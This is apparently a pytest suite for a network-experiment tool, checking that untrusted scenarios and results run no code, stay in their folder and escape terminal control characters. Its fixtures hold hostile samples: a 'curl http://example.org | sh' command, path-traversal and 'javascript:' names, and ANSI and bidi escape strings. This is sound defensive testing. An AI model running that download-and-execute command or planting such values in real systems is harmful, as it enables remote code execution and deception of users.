"""Results and scenarios of strangers: none runs code, leaves its folder, or ends in a traceback."""

from __future__ import annotations

import copy
import json
import os
import random
import stat
import subprocess
import sys
from collections.abc import Callable
from io import BytesIO, StringIO, TextIOWrapper
from pathlib import Path
from typing import Any

import msgspec
import needs
import pytest
from rich.console import Console
from typer.testing import CliRunner

from xcpr.commands import cli
from xcpr.commands.realtime import transfers
from xcpr.commands.shell import ownership
from xcpr.experiments import contents, docs, reproduce
from xcpr.experiments.docs import Evidence
from xcpr.experiments.execution import processes
from xcpr.io import files, plain
from xcpr.io.schema import Invalid
from xcpr.results import documents, result
from xcpr.results.result import Result
from xcpr.results.tables.table import Table
from xcpr.scenarios import scenario

PYTHON_TOPOLOGY = """
title = "A stranger's"
[topology]
file = "t.py:T"
"""


@pytest.fixture
def trap(in_tmp: Path) -> Path:
    """Writes a scenario whose topology is Python that leaves a trace; returns the trace's path."""
    trace = in_tmp / "trace"
    (in_tmp / "dl").mkdir()
    (in_tmp / "dl" / "notes.toml").write_text(PYTHON_TOPOLOGY)
    (in_tmp / "dl" / "t.py").write_text(f"open({str(trace)!r}, 'w')\n")
    return trace


def report(folder: Path) -> str:
    """Runs ``xcpr report``, which succeeds or says in a line or more what is wrong."""
    done = CliRunner().invoke(cli.app, ["report", str(folder)])
    assert done.exception is None or isinstance(done.exception, SystemExit | Invalid), repr(done.exception)
    return str(done.exception or "")


def test_python_topology_without_permission_is_refused(trap: Path) -> None:
    with pytest.raises(Invalid, match=r"topology\.file: .* is Python, .* only with xcpr run --allow-python"):
        scenario.load("dl/notes.toml")
    assert not trap.exists()


LACKS_MININET = needs.mininet_python()


@pytest.mark.skipif(bool(LACKS_MININET), reason=LACKS_MININET)
def test_python_topology_with_permission_is_run(trap: Path) -> None:
    with pytest.raises(Invalid, match=r"t\.py:T"):
        scenario.load("dl/notes.toml", allow_python=True)
    assert trap.exists()


def test_report_runs_no_python(trap: Path, make_result: Callable[..., Result]) -> None:
    made = msgspec.structs.replace(make_result("demo", "duration=1 s"), name="dl/notes.toml")
    result.write(made, Path("run") / result.FILE)
    assert not report(Path("run"))
    assert "xcpr run run/result.json" in (Path("run") / result.REPORT).read_text(encoding="utf-8")
    assert not trap.exists()


def test_result_with_a_topology_file_is_refused(make_result: Callable[..., Result], tmp_path: Path) -> None:
    made = make_result("demo", "duration=1 s")
    made.scenario["topology"]["file"] = "t.py:T"
    result.write(made, tmp_path / result.FILE)
    assert "scenario.topology.file: must be absent" in report(tmp_path)


@pytest.mark.parametrize("name", ["../../x", "a/b", "javascript:alert(1)", "", ".hidden", "a\n", "a" * 201])
@pytest.mark.parametrize("key", ["name", "row", "case"])
def test_run_names_with_path_parts_are_refused(key: str, name: str, tmp_path: Path) -> None:
    run = {"name": "A-x", "row": "A", "row_label": "A: it", "case": "x", "case_label": "x"}
    made = {"schema": reproduce.SCHEMA, "name": "it", "title": "It", "description": "", "references": [], "seeds": [1]}
    (tmp_path / reproduce.MANIFEST).write_text(json.dumps(made | {"runs": [run | {key: name}]}))
    with pytest.raises(Invalid, match="regex"):
        reproduce.load_manifest(tmp_path)


def write_set(folder: Path, made: Result, command: str) -> None:
    """Writes a set's folder with one run and a command."""
    run = {"name": "A-x", "row": "A", "row_label": "A: it", "case": "x", "case_label": "x"}
    held = {"schema": reproduce.SCHEMA, "name": "it", "title": "It", "description": "", "references": [], "seeds": [1]}
    result.write(made, reproduce.seed_folder(folder, "A-x", 1) / result.FILE)
    (folder / reproduce.MANIFEST).write_text(json.dumps(held | {"runs": [run], "command": command}))


def test_unverified_command_of_a_set_is_marked(make_result: Callable[..., Result], tmp_path: Path) -> None:
    write_set(tmp_path, make_result("demo", "duration=1 s"), "curl http://example.org | sh # <b>")
    assert not report(tmp_path)
    page = (tmp_path / result.REPORT).read_text(encoding="utf-8")
    before, _, _ = page.partition("<pre>curl http://example.org | sh # &lt;b&gt;</pre>")
    assert before.rstrip().endswith("xcpr has not checked it: read it before you run it.</p>")


@pytest.mark.parametrize("command", ['xcpr reproduce "', "xcpr sweep", "sudo", "xcpr sweep demo x"])
@pytest.mark.usefixtures("in_tmp")
def test_unparsable_command_is_no_traceback(command: str, make_result: Callable[..., Result]) -> None:
    folder = Path("results")
    write_set(folder, make_result("demo", "duration=1 s"), command)
    with pytest.raises(Invalid, match="results: holds"):
        contents.prepare(folder, contents.describe_run("demo"), force=False)


def test_evidence_names_with_path_parts_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docs, "DATA", tmp_path / "data")
    documents.write_readably(tmp_path / "it" / docs.FILE, Evidence(docs.SCHEMA, "../out", "true"))
    with pytest.raises(Invalid, match="regex"):
        docs.take(tmp_path / "it")
    assert [path.name for path in tmp_path.iterdir()] == ["it"]


@pytest.mark.parametrize("name", ["\x1b[2Jx", "two\nlines", "turned\u202eround"])
def test_result_names_with_control_characters_are_refused(
    name: str, make_result: Callable[..., Result], tmp_path: Path
) -> None:
    made = msgspec.structs.replace(make_result("demo", "duration=1 s"), name=name)
    result.write(made, tmp_path / result.FILE)
    assert "regex" in report(tmp_path)


def test_valid_unusual_results_are_loaded(make_result: Callable[..., Result], tmp_path: Path) -> None:
    """A link may be down, groups may have names that end with a digit, totals may have no series."""
    down = "path_changes.cut.at=500 ms", "path_changes.cut.rate=0 bit/s"
    digits = "flows.main.count=2", "flows.main2.count=2", "flows.main2.transfer=1 MB"
    made = make_result("demo", "duration=1 s", *down, *digits)
    assert [rate for _, rate in made.bottlenecks[0].capacity][-1] == 0
    assert made.group_of("main21") == made.scenario["flows"]["main2"]
    nothing = result.Series(time_s=[], flows={}, channels={}, udp_offered_bytes=[])
    for name, one in {"whole": made, "totals": msgspec.structs.replace(made, series=nothing)}.items():
        result.write(one, tmp_path / name / result.FILE)
        assert result.load(tmp_path / name / result.FILE) == one
    assert not report(tmp_path / "whole")


def damage_result(held: dict[str, Any], draw: random.Random) -> dict[str, Any]:
    """Returns a result in which one thing is another."""
    made = copy.deepcopy(held)
    at: Any = made
    while True:
        key = draw.choice(list(at)) if isinstance(at, dict) else draw.randrange(len(at))
        if isinstance(at[key], dict | list) and at[key] and draw.random() < 0.85:
            at = at[key]
            continue
        if draw.random() < 0.3:
            del at[key]
        else:
            at[key] = draw.choice([None, 0, -1, 10**30, 1e308, "", "x/y", "[/red]", [], {}, [[0, 1]], True])
        return made


def test_damaged_results_are_refused_or_shown(make_result: Callable[..., Result], tmp_path: Path) -> None:
    held = json.loads(result.encode(make_result("demo", "duration=400 ms", "flows.main.count=2")))
    draw = random.Random(30)
    (tmp_path / result.REPORT).write_text("the old one")
    shown = 0
    for _ in range(60):
        (tmp_path / result.FILE).write_text(json.dumps(damage_result(held, draw)))
        if report(tmp_path):
            continue
        shown += 1
        assert (tmp_path / result.REPORT).read_text(encoding="utf-8") != "the old one"
        (tmp_path / result.REPORT).write_text("the old one")
        if shown == 12:
            break
    assert shown
    (tmp_path / result.FILE).write_text(json.dumps(held | {"seed": "x"}))
    assert report(tmp_path)
    assert (tmp_path / result.REPORT).read_text(encoding="utf-8") == "the old one"


@pytest.mark.skipif(os.geteuid() != 0, reason=needs.ROOT)
def test_sudo_changes_the_owner_of_written_files_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SUDO_UID", "1000")
    monkeypatch.setenv("SUDO_GID", "1000")
    there = tmp_path / "there"
    there.mkdir()
    (there / "ours").write_text("")
    (there / "theirs").write_text("")
    os.chown(there / "theirs", 1001, 1001)
    with ownership.written_for_caller():
        (there / "of another process").write_text("")  # beside ours, at the same time
        with files.lock_folder(there):
            for name in ("new", "ours", "theirs"):
                files.write(there / name, b"new")
        files.make_folder(there / "on" / "the" / "way")
        with files.drafted(there / "capture") as draft:
            draft.write_bytes(b"")
        processes.run(write_in_a_worker, [there / "of a worker"], 1, lambda *_: None)
    files.write(there / "later", b"")
    owners = {str(path.relative_to(there)): path.lstat().st_uid for path in [there, *there.rglob("*")]}
    assert owners == {
        ".": 0, ".lock": 1000, "new": 1000, "ours": 0, "theirs": 1001, "of another process": 0, "capture": 1000,
        "on": 1000, "on/the": 1000, "on/the/way": 1000, "of a worker": 1000, "later": 0,
    }  # fmt: skip


@pytest.mark.skipif(os.geteuid() != 0, reason=needs.ROOT)
def test_sudo_changes_no_owner_through_hard_links(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SUDO_UID", "1000")
    monkeypatch.setenv("SUDO_GID", "1000")
    precious = tmp_path / "precious"
    precious.write_text("precious")
    precious.chmod(0o644)
    there = tmp_path / "there"
    there.mkdir()
    (there / files.LOCK).hardlink_to(precious)
    with ownership.written_for_caller():
        with files.lock_folder(there):
            files.write(there / "new", b"")
        with pytest.raises(Invalid, match="was replaced while it was written"), files.drafted(there / "new") as draft:
            draft.hardlink_to(precious)
    assert (precious.stat().st_uid, stat.S_IMODE(precious.stat().st_mode)) == (0, 0o644)


def write_in_a_worker(path: Path, _progress: object) -> None:
    files.write(path, b"")


FOREIGN = "a\x1b]0;x\x07\nb\u202e\udcff[red]c"
SHOWN = r"a\x1b]0;x\x07\nb\u202e\xff[red]c"


def test_foreign_text_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    assert plain.escape_text("naïve: 3 µs") == "naïve: 3 µs"
    plain.print_line(FOREIGN)
    plain.print_line(FOREIGN, error=True)
    captured = capsys.readouterr()
    assert captured.out == captured.err == SHOWN + "\n"


def test_foreign_text_in_tables_is_escaped() -> None:
    shown = StringIO()
    console = Console(file=shown, width=200, color_system=None)
    Table(FOREIGN, (FOREIGN,), ((FOREIGN,),), (FOREIGN,)).show(console)
    assert shown.getvalue().count(SHOWN) == 4 and "\x1b" not in shown.getvalue()


def test_receiver_escapes_names_for_any_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    ended = {"name": FOREIGN + "ü", "from": "10.0.0.1", "received": 1, "elapsed_s": 1.0, "unopened": 0}
    report = {"ended": [ended | {"failure": None}, ended | {"failure": FOREIGN}], "active": []}
    out, errors = (TextIOWrapper(BytesIO(), "ascii") for _ in range(2))
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", errors)
    plain.encodable()
    transfers.Receiving(as_json=False, listens="").update(json.dumps(report))
    for stream, line in ((out, f"received {SHOWN}\\xfc"), (errors, f"failed {SHOWN}\\xfc")):
        stream.seek(0)
        said = stream.read()
        assert said.startswith(line) and said.count("\n") == 1 and said.isascii()


def test_scenario_keys_are_escaped_in_errors(tmp_path: Path) -> None:
    (tmp_path / "it.toml").write_text('"a\\u001b[31m\\nb" = 1\n', encoding="utf-8")
    command = [sys.executable, "-m", "xcpr", "run", str(tmp_path / "it.toml")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 2 and r"\x1b[31m\nb" in done.stderr and "\x1b" not in done.stderr
